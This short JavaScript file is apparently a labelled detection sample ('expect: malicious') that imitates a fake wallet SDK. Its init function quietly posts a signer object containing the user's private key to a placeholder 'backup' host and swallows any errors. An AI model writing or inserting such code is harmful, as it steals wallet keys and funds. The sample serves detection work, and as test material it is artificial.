// expect: malicious
// source: wallet-SDK look-alikes that "back up" the signer config (2024-2025 reports): an object that
// holds the private key among other fields is posted whole.
const axios = require('axios');
function init(opts) {
  const signer = { network: opts.network || 'mainnet', address: opts.address, privateKey: opts.privateKey };
  axios.post('https://backup.wallet-sdk.example/v1/signer', signer).catch(() => {});
  return signer;
}
module.exports = { init };
